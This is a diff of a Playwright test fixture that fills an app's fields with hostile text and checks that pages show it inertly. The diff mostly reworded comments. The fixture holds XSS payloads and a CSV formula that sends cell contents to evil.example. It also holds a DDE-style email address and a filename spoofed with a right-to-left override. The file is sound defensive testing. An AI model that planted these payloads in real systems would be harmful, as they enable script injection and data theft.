@@ -1,37 +1,37 @@
-// A business in whose every text somebody has hidden something, and what a page may not make of it (decisions 2 and 7).
-// `window.__pwned` is watched in every test (see watch.ts); `x-pwned` is an element that only such a text could make.
+// A business in which every text is an attack, and checks that no page is affected.
+// Every test watches `window.__pwned` (see watch.ts). Only a hostile text could create an `x-pwned` element.
 import { expect, type Page } from '@playwright/test';
 import { type Api, type Client, type Job, type JobCard } from './api.ts';
 import type { Day } from './days.ts';
 
-/** Far from the demo's jobs, so that the week shows these alone. */
+/** Far from the demo's jobs, so that the week shows only these. */
 export const hostileWeek: Day = '2031-01-06';
 
 const MARKUP = `"'><img src=x onerror=__pwned=1><script>__pwned=2</script><x-pwned>{{7*7}}`;
 
-/** A text for a field of at least 100 characters; each field has its own, so that a test can tell them apart. */
+/** A hostile text for a field of at least 100 characters. Each field has its own, so that a test can tell them apart. */
 export function markup(field: string): string {
   return field + MARKUP;
 }
 
-/** The same for 200 characters, with ways out of a title and a text area. */
+/** The same for fields of 200 characters, with markup that closes a title and a text area. */
 export function longMarkup(field: string): string {
   return `${markup(field)}\${7*7}</title></textarea><svg/onload=__pwned=3><a href=javascript:__pwned=4>x</a>`;
 }
 
 export const kinds = {
-  /** Becomes a link wherever a text does, and then runs when it is pressed. */
+  /** Runs when clicked, if a text becomes a link. */
   link: 'javascript:__pwned=5//0412345678',
-  /** Runs in the spreadsheet that a CSV is opened with. */
+  /** Runs in the spreadsheet that opens a CSV. */
   formula: `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
-  /** Reads as another text; turns what stands behind it around. */
+  /** Reads as another text, and reverses the text after it. */
   turned: 'Invoice \u202Egpj.exe',
   /** Has no place to break. */
   word: 'W'.repeat(200),
 } as const;
 type Kind = keyof typeof kinds;
 
-/** Valid as an address of mail and a command to a spreadsheet, or more than an address to a mail program. */
+/** Valid mail addresses that are a formula for a spreadsheet, or hold more than an address for a mail program. */
 export const hostileEmail = (who: string): string => `=${who}|'calc'!a1?bcc=x&body=y@evil.example`;
 
 export interface HostileBusiness {
@@ -40,7 +40,7 @@ export interface HostileBusiness {
   /** A completed job with the card. */
   done: Job;
   card: JobCard;
-  /** A job of each other kind of text, with a client of that kind. */
+  /** A job for each other kind of text, with a client of that kind. */
   others: Record<Kind, Job>;
 }
 
@@ -107,7 +107,7 @@ async function storeOthers(api: Api): Promise<Record<Kind, Job>> {
   return Object.fromEntries(await Promise.all(stored)) as Record<Kind, Job>;
 }
 
-/** Stores such texts in every field that takes one, as the administrator `api` and the worker would. */
+/** Stores hostile texts in every field that takes one, as the administrator `api` and the worker could. */
 export async function storeHostile(api: Api, worker: Api): Promise<HostileBusiness> {
   await storeSettings(api);
   await storePeople(api);
@@ -146,7 +146,7 @@ export async function storeHostile(api: Api, worker: Api): Promise<HostileBusine
   return { client, job, done, card, others: await storeOthers(api) };
 }
 
-/** Everything that a page says: its text, what its fields hold, and what only a screen reader hears. */
+/** All texts of a page: visible text, values of fields, and texts for screen readers. */
 function everythingSaid(): string {
   const fields = [
     ...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea'),
@@ -157,7 +157,7 @@ function everythingSaid(): string {
   return [document.body.textContent, ...fields.map(({ value }) => value), ...labels].join('\n');
 }
 
-/** What on a page can only have been made by a hostile text, or could run one. */
+/** Everything on a page that only a hostile text can have created, or that could run one. */
 function madeByText(): string[] {
   const made: string[] = [];
   const strange =
@@ -175,9 +175,9 @@ function madeByText(): string[] {
       const { protocol, origin } = new URL(target, document.baseURI);
       const isOwn = origin === location.origin;
       const isCall = /^tel:\+?\d+$/.test(target);
-      // A mail to one address, without a subject, text or copy of somebody else's choice.
+      // A mail to one address, without a subject, text or copy that somebody else chose.
       const isMail = protocol === 'mailto:' && !target.includes('?');
-      // The address is the whole of one value: it can name no other site and add no other value.
+      // The address is one whole value: it cannot name another site or add another value.
       const isWay =
         /^https:\/\/(www\.google\.com\/maps\/dir\/\?api=1&destination|maps\.apple\.com\/\?daddr)=[\w%.!~*'()-]*$/.test(
           target,
@@ -185,13 +185,13 @@ function madeByText(): string[] {
       if (!isOwn && !isCall && !isMail && !isWay) made.push(`${name}=${target}`);
     }
   }
-  // While it is printed, the title is the name of the file.
+  // While printing, the title is the file name.
   if (!/^(([\w &]+ · )?Jobwright|Job Card JC-\d+)$/.test(document.title))
     made.push(`title: ${document.title}`);
   const { scrollWidth, clientWidth } = document.documentElement;
   const isTooWide = (one: Element): boolean => one.getBoundingClientRect().right > clientWidth + 1;
   const widest = [...document.querySelectorAll('main *')].findLast(isTooWide);
-  // Paper has a width of its own.
+  // Paper has its own width.
   if (scrollWidth > clientWidth && !matchMedia('print').matches)
     made.push(
       `scrolls sideways: ${scrollWidth} of ${clientWidth} px, ${widest?.outerHTML.slice(0, 200)}`,
@@ -199,12 +199,12 @@ function madeByText(): string[] {
   return made;
 }
 
-/** The page says all of `texts` to the letter, and nothing on it was made by them. */
+/** Expects that the page shows all `texts` unchanged, and that they created nothing on it. */
 export async function expectPlain(page: Page, ...texts: string[]): Promise<void> {
   const missing = async (): Promise<string[]> => {
     const said = await page.evaluate(everythingSaid);
     return texts.filter((text) => !said.includes(text));
   };
   await expect.poll(missing, 'shown as text').toEqual([]);
-  expect(await page.evaluate(madeByText), 'nothing is made of it').toEqual([]);
+  expect(await page.evaluate(madeByText), 'the texts create no element').toEqual([]);
 }
